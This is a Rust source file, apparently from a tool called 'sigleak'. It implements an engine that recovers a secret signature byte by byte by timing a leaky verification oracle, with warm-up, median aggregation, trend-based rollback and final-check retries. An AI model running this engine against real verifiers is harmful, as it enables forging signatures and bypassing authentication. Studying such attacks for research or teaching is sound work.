//! The recovery state machine.
//!
//! Per position the engine runs
//! `WarmUp → Measure → Aggregate → Commit → TrendCheck`, then either advances
//! the cursor or, on a suspect trend, moves it back by one so that the
//! previous position and the current one are both measured again.
//!
//! Two budgets make termination explicit:
//! - each position may be measured at most `max_attempts_per_position` times;
//!   a rollback that would exceed this is suppressed
//! - after a rejected final check only the last position is re-measured, at
//!   most `final_retries` times, before the run ends with
//!   [`Verdict::Rejected`]

use std::time::Instant;

use rand::{Rng, SeedableRng};
use rand_xoshiro::Xoshiro256PlusPlus;
use sigleak_core::statistics::aggregate_with_buffer;
use sigleak_core::trend::check_trend;
use tracing::{debug, info, warn};

use crate::config::Config;
use crate::error::RecoveryError;
use crate::measurement::{warm_up, Clock, MonotonicClock, Timer, TrialScheduler};
use crate::oracle::VerifyOracle;
use crate::output::{NullReporter, ProgressReporter};
use crate::result::{PassRecord, RecoveryReport, Verdict};
use crate::signature::SignatureAssembler;

/// Recovers a secret signature from a timing-leaky [`VerifyOracle`].
///
/// The engine owns the oracle, the clock and the configuration; nothing is
/// shared through global state. Runs are strictly sequential.
///
/// ```ignore
/// use sigleak::{Config, FnOracle, RecoveryEngine};
///
/// let oracle = FnOracle::new(|msg: &[u8], sig: &[u8]| verifier.verify(msg, sig));
/// let mut engine = RecoveryEngine::new(oracle, Config::default());
/// let report = engine.run(b"Hello world")?;
/// println!("{} {}", report.is_accepted(), report.signature_hex());
/// ```
#[derive(Debug)]
pub struct RecoveryEngine<O, C = MonotonicClock> {
    oracle: O,
    timer: Timer<C>,
    config: Config,
}

impl<O: VerifyOracle> RecoveryEngine<O, MonotonicClock> {
    /// Create an engine timing `oracle` with the wall clock.
    pub fn new(oracle: O, config: Config) -> Self {
        Self::with_clock(oracle, MonotonicClock::new(), config)
    }
}

impl<O: VerifyOracle, C: Clock> RecoveryEngine<O, C> {
    /// Create an engine reading durations from `clock`.
    pub fn with_clock(oracle: O, clock: C, config: Config) -> Self {
        Self {
            oracle,
            timer: Timer::new(clock),
            config,
        }
    }

    /// The configuration in use.
    pub fn config(&self) -> &Config {
        &self.config
    }

    /// The wrapped oracle.
    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    /// Consume the engine and return the oracle.
    pub fn into_oracle(self) -> O {
        self.oracle
    }

    /// Recover the signature for `message` without progress output.
    pub fn run(&mut self, message: &[u8]) -> Result<RecoveryReport, RecoveryError> {
        self.run_with_reporter(message, &mut NullReporter)
    }

    /// Recover the signature for `message`, streaming progress to `reporter`.
    ///
    /// Returns a report whose verdict is [`Verdict::Rejected`] when the final
    /// check still fails after the last-byte retries; this is not an error.
    /// Oracle failures and invalid configurations are.
    pub fn run_with_reporter(
        &mut self,
        message: &[u8],
        reporter: &mut dyn ProgressReporter,
    ) -> Result<RecoveryReport, RecoveryError> {
        self.config.validate()?;

        let started = Instant::now();
        let config = &self.config;
        let layout = config.layout.clone();
        let len = layout.signature_length;

        let seed = config.seed.unwrap_or_else(|| rand::rng().random());
        let mut rng = Xoshiro256PlusPlus::seed_from_u64(seed);

        let mut signature = SignatureAssembler::new(layout.clone());
        let mut scheduler =
            TrialScheduler::new(config.rounds, config.shuffle_candidates, layout.full_length(), seed);
        let mut averages: Vec<Option<f64>> = vec![None; len];
        let mut attempts = vec![0usize; len];
        let mut median_buffer = Vec::with_capacity(config.rounds);

        let mut history = Vec::new();
        let mut rollbacks = 0usize;
        let mut suppressed_rollbacks = 0usize;
        let mut final_retries_used = 0usize;
        let mut oracle_calls = 0u64;

        info!(
            signature_length = len,
            rounds = config.rounds,
            seed,
            "starting signature recovery"
        );

        oracle_calls +=
            warm_up(&mut self.oracle, message, &layout, config.initial_warmup, &mut rng)? as u64;

        let mut cursor = 0usize;
        let verdict = loop {
            if cursor == len {
                let full = signature.compose_full();
                let accepted = self
                    .oracle
                    .verify(message, &full)
                    .map_err(RecoveryError::oracle)?;
                oracle_calls += 1;
                reporter.on_final_check(accepted, &full);

                if accepted {
                    info!(passes = history.len(), rollbacks, "signature accepted");
                    break Verdict::Accepted;
                }
                if final_retries_used < config.final_retries {
                    final_retries_used += 1;
                    warn!(
                        retry = final_retries_used,
                        "final check rejected, re-measuring last byte"
                    );
                    cursor = len - 1;
                    continue;
                }
                warn!(passes = history.len(), "final check rejected, retries exhausted");
                break Verdict::Rejected;
            }

            let position = cursor;
            attempts[position] += 1;
            let attempt = attempts[position];
            averages[position] = None;

            oracle_calls +=
                warm_up(&mut self.oracle, message, &layout, config.position_warmup, &mut rng)?
                    as u64;

            oracle_calls += scheduler.calls_per_position() as u64;
            let matrix = scheduler.measure_position(
                &mut self.oracle,
                &self.timer,
                message,
                &mut signature,
                position,
            )?;
            let stats = aggregate_with_buffer(matrix, &mut median_buffer);

            for (candidate, &median_ns) in (0..=u8::MAX).zip(stats.medians.iter()) {
                debug!(position, attempt, candidate, median_ns, "candidate median");
                reporter.on_candidate(position, attempt, candidate, median_ns);
            }

            signature.set(position, stats.selected);
            averages[position] = Some(stats.average);

            let trend = check_trend(&averages, position);
            let mut rolled_back = false;
            if trend.is_suspect() {
                // check_trend only flags positions >= 3, so position - 1 exists
                let previous = position - 1;
                if attempts[previous] >= config.max_attempts_per_position
                    || attempts[position] >= config.max_attempts_per_position
                {
                    suppressed_rollbacks += 1;
                    warn!(position, ?trend, "attempt budget spent, keeping suspect guess");
                } else {
                    rolled_back = true;
                    rollbacks += 1;
                }
            }

            let record = PassRecord {
                position,
                attempt,
                selected: stats.selected,
                selected_median_ns: stats.selected_median,
                average_ns: stats.average,
                trend,
                rolled_back,
            };
            info!(
                position,
                attempt,
                selected = stats.selected,
                average_ns = stats.average,
                "byte committed"
            );
            reporter.on_commit(&record, &signature.bytes()[..=position]);
            history.push(record);

            if rolled_back {
                cursor = position - 1;
                info!(from = position, to = cursor, ?trend, "trend broken, rolling back");
                reporter.on_rollback(position, cursor);
            } else {
                cursor += 1;
            }
        };

        Ok(RecoveryReport {
            verdict,
            signature: signature.bytes().to_vec(),
            full_signature: signature.compose_full(),
            passes: history.len(),
            rollbacks,
            suppressed_rollbacks,
            final_retries_used,
            oracle_calls,
            seed,
            elapsed: started.elapsed(),
            history,
        })
    }
}
